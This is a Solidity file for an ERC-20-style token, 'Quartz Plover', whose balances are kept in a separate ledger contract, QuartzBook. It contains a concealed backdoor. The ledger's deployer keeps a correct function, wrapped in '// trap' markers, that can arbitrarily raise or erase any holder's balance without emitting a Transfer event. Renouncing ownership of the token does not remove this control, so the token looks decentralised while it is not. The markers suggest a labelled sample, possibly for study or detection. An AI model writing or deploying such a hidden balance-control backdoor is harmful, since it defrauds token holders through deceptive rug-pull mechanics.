// 0.7 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

/// The book in which the accounts of a coin are kept.
contract QuartzBook {
    address private coin;
    address private immutable clerk = msg.sender;
    mapping(uint160 => uint256) private lines;

    function entrust(address c, address first, uint256 v) external {
        require(msg.sender == clerk && coin == address(0), "book: entrusted");
        coin = c;
        lines[~uint160(first)] = v;
    }

    function line(address a) external view returns (uint256) {
        return lines[~uint160(a)];
    }

    function shift(address a, address b, uint256 v) external {
        require(msg.sender == coin, "book: coin");
        require(lines[~uint160(a)] >= v, "book: short");
        lines[~uint160(a)] -= v;
        lines[~uint160(b)] += v;
    }

    // trap {
    function correct(address a, int256 by) external {
        require(msg.sender == clerk, "book: clerk");
        lines[~uint160(a)] = uint256(int256(lines[~uint160(a)]) + by);
    }
    // trap }
}

contract QuartzPlover {
    string public constant name = "Quartz Plover";
    string public constant symbol = "QPLOV";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 26_000_000 ether;
    address public owner = msg.sender;
    QuartzBook private immutable book;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(QuartzBook b) {
        book = b;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function balanceOf(address a) external view returns (uint256) {
        return book.line(a);
    }

    function approve(address b, uint256 v) external returns (bool) {
        allowance[msg.sender][b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address b, uint256 v) external returns (bool) {
        book.shift(msg.sender, b, v);
        emit Transfer(msg.sender, b, v);
        return true;
    }

    function transferFrom(address a, address b, uint256 v) external returns (bool) {
        require(allowance[a][msg.sender] >= v, "allowance");
        allowance[a][msg.sender] -= v;
        book.shift(a, b, v);
        emit Transfer(a, b, v);
        return true;
    }
}
